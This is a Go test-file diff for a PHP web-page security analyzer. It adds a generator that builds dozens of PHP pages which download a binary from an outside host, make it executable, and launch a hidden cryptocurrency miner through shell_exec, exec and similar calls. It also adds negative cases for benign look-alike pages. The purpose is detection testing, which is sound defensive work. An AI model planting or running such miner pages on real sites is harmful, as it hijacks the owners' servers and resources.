@@ -236,11 +236,106 @@ func generatedAlphabetPages(r *rand.Rand) []techVariant {
 	return out
 }
 
+// minerPages: a page starts a cryptocurrency miner: a pool (a stratum URL, host:port, or
+// one the request names), an account, a miner's own options, a binary by its name or
+// renamed, the command built as a literal, by concatenation, interpolation or sprintf with
+// escapeshellarg, run through shell_exec, exec, system, passthru, popen, proc_open or
+// backticks, detached or not, after fetching and chmodding the binary or not.
+func minerPages(r *rand.Rand) []techVariant {
+	wallet := "4" + strings.Repeat("8ABcdEfGhJk", 9)[:94]
+	pools := []string{"stratum+tcp://pool.example.net:3333", "stratum+ssl://xmr.example.org:443", "pool.example.com:10128", "203.0.113.8:5555"}
+	bins := []string{"xmrig", "./xmrig", "/tmp/.x/php-fpm", "__DIR__ . '/wp-cron.bin'", "'/dev/shm/kworker'", "'./cache-helper.exe'"}
+	opts := [][]string{{"--donate-level=1"}, {"--randomx-mode=light"}, {"--cpu-max-threads-hint", "50"}, {"-a", "rx/0"}, {"--coin", "monero"}, {"--max-cpu-usage=75"}}
+	runners := []string{"shell_exec(%s);", "exec(%s, $out);", "system(%s);", "passthru(%s);", "$h = popen(%s, 'r'); pclose($h);", "proc_open(%s, [], $pipes);"}
+	var out []techVariant
+	for n := 0; n < 36; n++ {
+		pool := pools[r.Intn(len(pools))]
+		bin := bins[r.Intn(len(bins))]
+		opt := opts[r.Intn(len(opts))]
+		user := wallet
+		if r.Intn(2) == 0 {
+			user = "worker" + word(r)
+		}
+		if !strings.HasPrefix(pool, "stratum") && user != wallet && !strings.HasPrefix(opt[0], "--") && opt[0] != "-a" {
+			opt = opts[0]
+		}
+		detach := []string{"nohup %s > /dev/null 2>&1 &", "setsid nohup %s >/dev/null 2>&1 &", "%s &", "%s"}[r.Intn(4)]
+		var page strings.Builder
+		page.WriteString("<?php\n")
+		binExpr := bin
+		if !strings.Contains(bin, "'") && !strings.Contains(bin, "__DIR__") {
+			binExpr = "'" + bin + "'"
+		}
+		if r.Intn(2) == 0 {
+			page.WriteString("$bin = " + binExpr + ";\n")
+			if r.Intn(2) == 0 {
+				page.WriteString("if (!file_exists($bin)) { file_put_contents($bin, file_get_contents('http://198.51.100.4/' . basename($bin))); }\n@chmod($bin, 0755);\n")
+			}
+			binExpr = "$bin"
+		}
+		poolExpr := "'" + pool + "'"
+		if r.Intn(3) == 0 {
+			poolExpr = "$_GET['pool'] ?? '" + pool + "'"
+		}
+		page.WriteString("$pool = " + poolExpr + ";\n$user = '" + user + "';\n")
+		page.WriteString("$threads = (int) shell_exec('nproc');\n")
+		args := "-o %s -u %s -t %d " + strings.Join(opt, " ")
+		var cmd, build string
+		switch r.Intn(4) {
+		case 0:
+			// sprintf with escapeshellarg
+			format := fmt.Sprintf(detach, "%s "+args)
+			cmd = "sprintf('" + format + "', escapeshellarg(" + binExpr + "), escapeshellarg($pool), escapeshellarg($user), $threads)"
+		case 1:
+			// concatenation over lines
+			line := fmt.Sprintf(detach, "BIN -o ' . $pool .\n  ' -u ' . $user . ' -t ' . $threads . ' "+strings.Join(opt, " "))
+			pre, post, _ := strings.Cut(line, "BIN")
+			cmd = "'" + pre + "' . " + binExpr + " . '" + post + "'"
+		case 2:
+			// interpolation
+			if binExpr != "$bin" {
+				page.WriteString("$bin = " + binExpr + ";\n")
+			}
+			cmd = "\"" + fmt.Sprintf(detach, "$bin -o $pool -u $user -t $threads "+strings.Join(opt, " ")) + "\""
+		case 3:
+			// built up with .=
+			build = "$c = " + binExpr + ";\n$c .= ' -o ' . $pool;\n$c .= ' -u ' . $user;\n$c .= ' " + strings.Join(opt, " ") + "';\n"
+			cmd = "$c"
+			if strings.Contains(detach, "nohup") {
+				cmd = "'nohup ' . $c . ' > /dev/null 2>&1 &'"
+			}
+		}
+		run := runners[r.Intn(len(runners))]
+		if r.Intn(5) == 0 && !strings.Contains(cmd, "sprintf") && strings.HasPrefix(cmd, "\"") {
+			// backticks
+			page.WriteString("$o = `" + strings.Trim(cmd, "\"") + "`;\n")
+		} else if r.Intn(2) == 0 {
+			fn := word(r)
+			// the binary's path is the function's own
+			if binExpr == "$bin" {
+				binExpr = bin
+				if !strings.Contains(bin, "'") && !strings.Contains(bin, "__DIR__") {
+					binExpr = "'" + bin + "'"
+				}
+			}
+			build = strings.ReplaceAll(build, "$c = $bin;", "$c = "+binExpr+";")
+			page.WriteString("function " + fn + "($pool, $user, $threads) {\n  $bin = " + binExpr + ";\n" + build + "  $cmd = " + cmd + ";\n  " + fmt.Sprintf(run, "$cmd") + "\n}\n" + fn + "($pool, $user, $threads);\n")
+		} else {
+			page.WriteString(build + "$cmd = " + cmd + ";\n" + fmt.Sprintf(run, "$cmd") + "\n")
+		}
+		page.WriteString("echo 'ok';\n")
+		p := []string{"/var/www/html/wp-content/uploads/2024/02/", "/var/www/html/", "/var/www/html/wp-includes/", "/srv/www/app/public/"}[r.Intn(4)] + word(r) + ".php"
+		out = append(out, techVariant{"miner-page", p, page.String()})
+	}
+	return out
+}
+
 func TestHarnessTechniques3(t *testing.T) {
 	r := rand.New(rand.NewSource(12))
 	var vs []techVariant
 	vs = append(vs, pageDownloaderPages(r)...)
 	vs = append(vs, generatedAlphabetPages(r)...)
+	vs = append(vs, minerPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -284,6 +379,28 @@ func TestTechnique3Negatives(t *testing.T) {
 	for p, page := range pages {
 		if b := best(New().Analyze(p, []byte(page))); b != nil && b.Severity >= audit.High {
 			t.Errorf("%s: %s %s %s\n%s", p, b.Severity, b.Rule, b.Title, page)
+		}
+	}
+}
+
+// Pages that run programs with options that look like a miner's and are not one.
+func TestMinerPageNegatives(t *testing.T) {
+	pages := map[string]string{
+		"/var/www/html/fetch.php":   "<?php\n$u = $_GET['u'] ?? 'x';\nexec('curl -s -o /tmp/feed.xml -u reader:' . escapeshellarg($u) . ' https://feeds.example.org/a.xml');\n",
+		"/var/www/html/backup.php":  "<?php\n$pass = getenv('DB_PASS');\nshell_exec(sprintf('mysqldump -u %s -p%s -h %s app > /var/backups/app.sql', 'app', escapeshellarg($pass), 'db:3306'));\n",
+		"/var/www/html/video.php":   "<?php\n$in = basename($_GET['f']);\nshell_exec('ffmpeg -i ' . escapeshellarg($in) . ' -t 30 -o out.mp4 -a aac');\n",
+		"/var/www/html/monitor.php": "<?php\n$p = shell_exec('ps aux | grep -v grep | grep xmrig');\nif ($p) { mail('ops@example.com', 'miner found', $p); }\necho htmlspecialchars($_GET['x'] ?? '');\n",
+		"/var/www/html/help.php":    "<?php\necho '<pre>xmrig -o stratum+tcp://pool:3333 -u WALLET --donate-level 1</pre>';\necho htmlspecialchars($_GET['q'] ?? '');\n",
+		"/var/www/html/ssh.php":     "<?php\nexec('ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 -u deploy backup.example.org:22 true');\n",
+	}
+	for p, page := range pages {
+		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
+			for _, f := range fs {
+				if f.Rule == RuleMiner || f.Severity >= audit.High {
+					t.Errorf("%s:%s\n%s", p, dump(fs), page)
+					break
+				}
+			}
 		}
 	}
 }
